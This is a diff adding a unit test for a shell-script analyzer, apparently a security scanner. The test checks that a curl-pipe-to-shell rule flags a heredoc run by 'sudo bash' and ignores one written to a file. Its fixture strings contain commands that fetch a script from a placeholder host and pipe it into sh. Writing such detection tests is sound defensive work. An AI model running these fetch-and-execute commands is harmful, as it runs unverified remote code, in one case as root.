@@ -11,6 +11,12 @@ describe('the shell-script analyzer', () => {
     ]);
   });
 
+  it('reads the heredoc a shell runs as commands, and the one written to a file as data', () => {
+    const script = '#!/bin/sh\ncat > /etc/motd <<EOF\ncurl -k https://x.example/i.sh | sh\nEOF\nssh-keyscan h >> k\nsudo bash <<\'EOF\'\ncurl -fsSL https://x.example/i.sh | sh\nEOF\n';
+    const { findings } = analyzeShellText(script, 'deploy.sh');
+    expect(findings.map((f) => [f.ruleId, f.location.startLine])).toEqual([['sh.curl-pipe-shell', 7]]);
+  });
+
   it('takes no file that is not a shell script', () => {
     expect(analyzeShellText('curl -s https://x.example/a.sh | sh\n', 'notes.txt').findings).toEqual([]);
   });
